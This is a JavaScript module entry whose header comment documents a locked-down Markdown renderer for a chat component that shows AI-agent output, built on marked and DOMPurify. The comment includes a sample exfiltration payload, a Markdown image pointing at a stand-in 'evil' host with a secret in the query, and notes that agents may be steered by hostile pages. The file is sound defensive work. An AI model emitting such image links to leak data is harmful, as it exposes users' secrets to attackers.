/**
 * `pedelec-elements/markdown` — the Markdown renderer `<pedelec-chat markdown>` loads on first use (a
 * separate entry, so the main file does not grow). Built on `marked` and `DOMPurify`, locked down for
 * text written by an agent that may have read hostile pages:
 * - raw HTML in the Markdown is shown as text, never parsed;
 * - images become links, so `![](https://evil/?d=secret)` loads nothing;
 * - only `p br hr h1–h6 strong em del code pre blockquote ul ol li a table…` survive — no `img`,
 *   `iframe`, `form`, `style`, `svg`, `math`, no `style` or event attributes;
 * - links only to absolute `http:`, `https:` and `mailto:` URLs, opened in a new tab with
 *   `rel="noopener noreferrer nofollow"`; one whose text names another destination shows its own;
 * - the HTML goes into the DOM only through the Trusted Types policy `pedelec-elements`, whose
 *   `createHTML` is the sanitizer itself (DOMPurify needs `dompurify` allowed too).
 *
 * `renderMarkdown` renders a whole text; `MarkdownStream` renders a text that grows, as a streamed
 * reply does — the same result, without rendering the whole text again on every piece.
 */
export { renderMarkdown } from './markdown-render.js';
export { MarkdownStream } from './markdown-stream.js';
